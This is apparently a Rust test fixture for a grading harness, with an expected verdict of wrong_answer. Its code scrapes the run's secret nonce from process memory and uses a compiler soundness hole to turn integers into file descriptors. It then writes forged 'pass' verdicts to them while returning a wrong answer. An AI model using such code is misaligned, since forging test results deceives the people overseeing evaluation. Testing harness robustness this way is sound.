//! tries: finds the secret of the run in memory, and answers with it by the hole in lifetimes
//! kata: demo
//! verdict: wrong_answer

use std::{
    fs,
    fs::File,
    io::Write,
    mem::ManuallyDrop,
    os::{fd::OwnedFd, unix::fs::FileExt},
};

/// Thirty-two digits that stand alone on the heap.
fn nonce() -> Option<String> {
    let maps = fs::read_to_string("/proc/self/maps").ok()?;
    let memory = File::open("/proc/self/mem").ok()?;
    let heap = maps.lines().find(|line| line.ends_with("[heap]"))?;
    let (from, to) = heap.split(' ').next()?.split_once('-')?;
    let (from, to) = (
        u64::from_str_radix(from, 16).ok()?,
        u64::from_str_radix(to, 16).ok()?,
    );
    let mut bytes = vec![0; (to - from) as usize];
    memory.read_exact_at(&mut bytes, from).ok()?;
    let is_digit = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
    bytes
        .chunk_by(|one, other| is_digit(one) == is_digit(other))
        .find(|run| run.len() == 32 && is_digit(&run[0]))
        .map(|run| String::from_utf8_lossy(run).into_owned())
}

/// The known hole in lifetimes, rust-lang/rust#25860: no `unsafe` is needed.
static UNIT: &&() = &&();

fn shorter<'short, 'long, T: ?Sized>(_: &'short &'long (), value: &'long mut T) -> &'short mut T {
    value
}

fn longer<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let lie: for<'x> fn(_, &'x mut T) -> &'b mut T = shorter;
    lie(UNIT, value)
}

enum Either<A, B> {
    One(#[allow(dead_code)] Option<Box<A>>),
    Other(Option<Box<B>>),
}

/// What is in one arm is read as what is in the other.
fn transmute<A, B>(value: A) -> B {
    fn inner<A, B>(either: &mut Either<A, B>, value: A) -> B {
        let Either::Other(slot) = either else {
            unreachable!()
        };
        let slot = longer(slot);
        *either = Either::One(Some(Box::new(value)));
        std::hint::black_box(either);
        *slot.take().unwrap()
    }
    inner(std::hint::black_box(&mut Either::Other(None)), value)
}

/// The answer.
pub fn answer() -> u32 {
    // Only where it has been left open to it: a wrong answer is told as right.
    let Some(nonce) = nonce() else {
        return 41;
    };
    let frame = format!(
        "{{\"nonce\":\"{nonce}\",\"test\":\"answers\",\"outcome\":{{\"verdict\":\"pass\"}},\"assertions\":1}}\n"
    );
    for number in 3..32_i32 {
        let mut file = ManuallyDrop::new(File::from(transmute::<i32, OwnedFd>(number)));
        let _ = file.write_all(frame.as_bytes());
    }
    println!("ESCAPED: found the secret of the run");
    std::process::exit(0)
}
